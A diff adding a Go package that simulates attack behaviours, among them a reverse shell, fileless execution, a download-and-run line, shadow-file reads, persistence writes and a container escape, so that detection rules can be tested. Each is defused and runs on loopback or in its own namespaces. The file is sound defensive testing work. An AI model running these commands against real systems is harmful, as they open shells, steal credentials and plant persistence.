@@ -1,0 +1,401 @@
+// Package simulate performs harmless versions of real attack behaviours on
+// this host, so that a person sees which rules fire. Each behaviour does to
+// the kernel what the attack does (the same calls, files and names), on files
+// of its own or in namespaces of its own, and cleans up after itself. Nothing
+// leaves the machine.
+package simulate
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// Behaviour is one simulated attack.
+type Behaviour struct {
+	Name      string
+	What      string // what it does, one sentence
+	Technique string // ATT&CK id
+	Root      bool   // works as root only
+	run       func(ctx context.Context, e *env) error
+}
+
+// env is what a behaviour works with.
+type env struct {
+	dir  string // folder of its own, removed afterwards
+	self string // this executable, for behaviours in namespaces
+}
+
+// Inner is the hidden first argument of this executable's simulate command
+// that runs the part of a behaviour that needs a namespace.
+const Inner = "inner"
+
+// All returns every behaviour, in the order they are run.
+func All() []Behaviour {
+	return []Behaviour{
+		{"reverse-shell", "bash opens an interactive shell over TCP to a listener on loopback", "T1059.004", false, reverseShell},
+		{"fileless-exec", "runs a program from an anonymous memory file", "T1620", false, memfdExec},
+		{"deleted-exec", "runs a program whose file is already deleted", "T1070.004", false, deletedExec},
+		{"tmp-exec", "runs a program that was just written under /tmp", "T1059", false, copiedExec("/tmp", "updater")},
+		{"shm-exec", "runs a program that was just written under /dev/shm", "T1059", false, copiedExec("/dev/shm", "kworkerd")},
+		{"miner", "starts a program with the arguments of a cryptocurrency miner", "T1496", false, fakeTool("xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "wallet")},
+		{"download-and-run", "a shell command line that pipes a download into a shell (the download does not run)", "T1105", false, shell("true || curl -s http://malware.example.test/x.sh | sh")},
+		{"decoded-shell", "pipes a base64-decoded command into a shell", "T1140", false, shell("echo dHJ1ZQ== | base64 -d | sh")},
+		{"webshell", "a process named like a web server starts a shell", "T1505.003", false, webshell},
+		{"network-scan", "starts a program named like a network scanner", "T1046", false, fakeTool("nmap", "-sS", "127.0.0.0/30")},
+		{"clear-history", "empties a shell's history file", "T1070.003", false, clearHistory},
+		{"authorized-keys", "adds a key to an authorized_keys file", "T1098.004", false, authorizedKeys},
+		{"setuid", "sets the setuid bit on a copy of a shell", "T1548.001", false, setuid},
+		{"read-shadow", "cat reads /etc/shadow", "T1003.008", true, command("cat", "/etc/shadow")},
+		{"cron", "writes a job into /etc/cron.d (commented out)", "T1053.003", true, cron},
+		{"preload", "opens /etc/ld.so.preload for writing and leaves it as it is", "T1574.006", true, touchOpen("/etc/ld.so.preload")},
+		{"core-pattern", "opens /proc/sys/kernel/core_pattern for writing and leaves it as it is", "T1611", true, touchOpen("/proc/sys/kernel/core_pattern")},
+		{"binary-directory", "writes a file into /usr/local/bin", "T1554", true, binaryDirectory},
+		{"kernel-module", "starts a program named insmod on a module that does not exist", "T1547.006", false, fakeTool("insmod", "/tmp/rootkit.ko")},
+		{"host-namespace", "starts a program named nsenter with the arguments of an escape to the host", "T1611", false, fakeTool("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/sh")},
+		{"metadata-service", "connects to the cloud metadata address, in a network namespace of its own", "T1552.005", true, inner("metadata-service", unix.CLONE_NEWNET)},
+		{"service-account-token", "reads a Kubernetes service account token, in a mount namespace of its own", "T1528", true, inner("service-account-token", unix.CLONE_NEWNS)},
+	}
+}
+
+// Run performs the named behaviours, or all of them. Progress goes to out.
+// Those that need root are left out, with a line that says so, when the
+// process is not root.
+func Run(ctx context.Context, out io.Writer, names []string) error {
+	all := All()
+	for _, n := range names {
+		if !slices.ContainsFunc(all, func(b Behaviour) bool { return b.Name == n }) {
+			return fmt.Errorf("there is no behaviour %q (picket simulate --list shows them)", n)
+		}
+	}
+	self, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	for _, b := range all {
+		if len(names) > 0 && !slices.Contains(names, b.Name) {
+			continue
+		}
+		if b.Root && os.Geteuid() != 0 {
+			fmt.Fprintf(out, "left out   %-22s needs root\n", b.Name)
+			continue
+		}
+		fmt.Fprintf(out, "simulating %-22s %s (%s)\n", b.Name, b.What, b.Technique)
+		if err := one(ctx, b, self); err != nil {
+			return fmt.Errorf("simulation %s: %w", b.Name, err)
+		}
+	}
+	return nil
+}
+
+func one(ctx context.Context, b Behaviour, self string) (err error) {
+	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
+	defer cancel()
+	dir, err := os.MkdirTemp("", "picket-simulate-")
+	if err != nil {
+		return err
+	}
+	defer func() { err = errors.Join(err, os.RemoveAll(dir)) }()
+	return b.run(ctx, &env{dir: dir, self: self})
+}
+
+// run runs a command without its output.
+func run(ctx context.Context, name string, args ...string) error {
+	if out, err := exec.CommandContext(ctx, name, args...).CombinedOutput(); err != nil {
+		return fmt.Errorf("%s: %w: %s", name, err, strings.TrimSpace(string(out)))
+	}
+	return nil
+}
+
+func command(name string, args ...string) func(context.Context, *env) error {
+	return func(ctx context.Context, _ *env) error { return run(ctx, name, args...) }
+}
+
+func shell(line string) func(context.Context, *env) error { return command("/bin/sh", "-c", line) }
+
+// copyTrue puts a copy of a program that does nothing at path.
+func copyTrue(path string) error { return copyProgram("true", path) }
+
+func copyProgram(name, path string) error {
+	from, err := exec.LookPath(name)
+	if err != nil {
+		return err
+	}
+	if from, err = filepath.EvalSymlinks(from); err != nil {
+		return err
+	}
+	b, err := os.ReadFile(from)
+	if err != nil {
+		return err
+	}
+	return os.WriteFile(path, b, 0o755)
+}
+
+// runFresh runs a file that was just written. Another thread of this process
+// may fork while the file is open for writing, and its child then holds it
+// until it execs: ETXTBSY passes.
+func runFresh(ctx context.Context, path string, args ...string) error {
+	for {
+		err := run(ctx, path, args...)
+		if !errors.Is(err, syscall.ETXTBSY) || ctx.Err() != nil {
+			return err
+		}
+		time.Sleep(time.Millisecond)
+	}
+}
+
+func fakeTool(name string, args ...string) func(context.Context, *env) error {
+	return func(ctx context.Context, e *env) error {
+		path := filepath.Join(e.dir, name)
+		if err := copyTrue(path); err != nil {
+			return err
+		}
+		return runFresh(ctx, path, args...)
+	}
+}
+
+func copiedExec(where, name string) func(context.Context, *env) error {
+	return func(ctx context.Context, _ *env) (err error) {
+		dir, err := os.MkdirTemp(where, ".picket-simulate-")
+		if err != nil {
+			return err
+		}
+		defer func() { err = errors.Join(err, os.RemoveAll(dir)) }()
+		path := filepath.Join(dir, name)
+		if err := copyTrue(path); err != nil {
+			return err
+		}
+		return runFresh(ctx, path)
+	}
+}
+
+func reverseShell(ctx context.Context, _ *env) error {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return err
+	}
+	defer ln.Close()
+	done := make(chan error, 1)
+	go func() { // ends with the connection, or with the listener
+		c, err := ln.Accept()
+		if err == nil {
+			defer c.Close()
+			_, err = io.WriteString(c, "exit\n")
+			_, _ = io.Copy(io.Discard, c) // the prompt; ends when the shell does
+		}
+		done <- err
+	}()
+	_, port, err := net.SplitHostPort(ln.Addr().String())
+	if err != nil {
+		return err
+	}
+	if err := run(ctx, "/bin/bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/"+port+" 0>&1"); err != nil {
+		return err
+	}
+	return <-done
+}
+
+func memfdExec(ctx context.Context, e *env) error {
+	fd, err := unix.MemfdCreate("payload", 0)
+	if err != nil {
+		return err
+	}
+	f := os.NewFile(uintptr(fd), "memfd")
+	defer f.Close()
+	return fromDescriptor(ctx, e, f)
+}
+
+func deletedExec(ctx context.Context, e *env) error {
+	f, err := os.CreateTemp(e.dir, "dropper")
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	if err := errors.Join(f.Chmod(0o755), os.Remove(f.Name())); err != nil {
+		return err
+	}
+	return fromDescriptor(ctx, e, f)
+}
+
+// fromDescriptor fills f with a program and runs it by its descriptor. The
+// file is opened again for reading: one open for writing cannot be run.
+func fromDescriptor(ctx context.Context, e *env, f *os.File) error {
+	path := filepath.Join(e.dir, "program")
+	if err := copyTrue(path); err != nil {
+		return err
+	}
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return err
+	}
+	if _, err := f.Write(b); err != nil {
+		return err
+	}
+	r, err := os.Open(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
+	if err != nil {
+		return err
+	}
+	defer r.Close()
+	if err := f.Close(); err != nil {
+		return err
+	}
+	for {
+		cmd := exec.CommandContext(ctx, "/proc/self/fd/3")
+		cmd.Args = []string{"payload"}
+		cmd.ExtraFiles = []*os.File{r} // becomes descriptor 3
+		if err := cmd.Run(); !errors.Is(err, syscall.ETXTBSY) || ctx.Err() != nil {
+			return err
+		}
+		time.Sleep(time.Millisecond)
+	}
+}
+
+func webshell(ctx context.Context, e *env) error {
+	path := filepath.Join(e.dir, "nginx")
+	if err := copyProgram("sh", path); err != nil {
+		return err
+	}
+	// Two commands, so that the outer shell stays and is the parent.
+	return runFresh(ctx, path, "-c", "/bin/sh -c 'id > /dev/null'; true")
+}
+
+func clearHistory(ctx context.Context, e *env) error {
+	return run(ctx, "/bin/sh", "-c", `: > "$0"`, filepath.Join(e.dir, ".bash_history"))
+}
+
+func authorizedKeys(ctx context.Context, e *env) error {
+	ssh := filepath.Join(e.dir, ".ssh")
+	if err := os.Mkdir(ssh, 0o700); err != nil {
+		return err
+	}
+	return run(ctx, "/bin/sh", "-c", `echo "ssh-ed25519 AAAA simulated" >> "$0"`, filepath.Join(ssh, "authorized_keys"))
+}
+
+func setuid(ctx context.Context, e *env) error {
+	path := filepath.Join(e.dir, "suid")
+	if err := copyTrue(path); err != nil {
+		return err
+	}
+	return run(ctx, "chmod", "u+s", path)
+}
+
+func cron(ctx context.Context, _ *env) (err error) {
+	path := "/etc/cron.d/picket-simulation"
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		return err
+	}
+	defer func() { err = errors.Join(err, os.Remove(path)) }()
+	return run(ctx, "/bin/sh", "-c", `echo "# simulated by picket" > "$0"`, path)
+}
+
+// touchOpen opens a file for appending, and appends nothing.
+func touchOpen(path string) func(context.Context, *env) error {
+	return func(ctx context.Context, _ *env) (err error) {
+		if _, e := os.Lstat(path); errors.Is(e, os.ErrNotExist) {
+			defer func() { err = errors.Join(err, os.Remove(path)) }()
+		}
+		return run(ctx, "/bin/sh", "-c", `: >> "$0"`, path)
+	}
+}
+
+func binaryDirectory(ctx context.Context, _ *env) (err error) {
+	path := "/usr/local/bin/picket-simulation"
+	defer func() { err = errors.Join(err, os.Remove(path)) }()
+	return run(ctx, "/bin/sh", "-c", `echo "#!/bin/true" > "$0"`, path)
+}
+
+// inner runs a part of this executable in new namespaces.
+func inner(name string, namespaces uintptr) func(context.Context, *env) error {
+	return func(ctx context.Context, e *env) error {
+		cmd := exec.CommandContext(ctx, e.self, "simulate", Inner, name)
+		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: namespaces}
+		if out, err := cmd.CombinedOutput(); err != nil {
+			return fmt.Errorf("%w: %s", err, strings.TrimSpace(string(out)))
+		}
+		return nil
+	}
+}
+
+// RunInner is what the re-executed process does.
+func RunInner(name string) error {
+	switch name {
+	case "metadata-service":
+		return metadataService()
+	case "service-account-token":
+		return serviceAccountToken()
+	}
+	return fmt.Errorf("there is no inner part %q", name)
+}
+
+// metadataAddress is where every large cloud serves instance metadata.
+var metadataAddress = [4]byte{169, 254, 169, 254}
+
+// metadataService gives the namespace's loopback the metadata address, and
+// connects to it there.
+func metadataService() error {
+	s, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return err
+	}
+	defer unix.Close(s)
+	lo, err := unix.NewIfreq("lo")
+	if err != nil {
+		return err
+	}
+	lo.SetUint16(unix.IFF_UP)
+	if err := unix.IoctlIfreq(s, unix.SIOCSIFFLAGS, lo); err != nil {
+		return fmt.Errorf("loopback up: %w", err)
+	}
+	alias, err := unix.NewIfreq("lo:0")
+	if err != nil {
+		return err
+	}
+	if err := alias.SetInet4Addr(metadataAddress[:]); err != nil {
+		return err
+	}
+	if err := unix.IoctlIfreq(s, unix.SIOCSIFADDR, alias); err != nil {
+		return fmt.Errorf("address: %w", err)
+	}
+	addr := net.JoinHostPort(net.IP(metadataAddress[:]).String(), "80")
+	ln, err := net.Listen("tcp", addr)
+	if err != nil {
+		return err
+	}
+	defer ln.Close()
+	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
+	if err != nil {
+		return err
+	}
+	return c.Close()
+}
+
+// serviceAccountToken mounts an empty file system over /run in its own mount
+// namespace, puts a token there and has cat read it.
+func serviceAccountToken() error {
+	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
+		return fmt.Errorf("private mounts: %w", err)
+	}
+	if err := unix.Mount("tmpfs", "/run", "tmpfs", 0, "size=1m"); err != nil {
+		return fmt.Errorf("tmpfs: %w", err)
+	}
+	dir := "/run/secrets/kubernetes.io/serviceaccount"
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		return err
+	}
+	token := filepath.Join(dir, "token")
+	if err := os.WriteFile(token, []byte("simulated"), 0o600); err != nil {
+		return err
+	}
+	return run(context.Background(), "cat", token)
+}
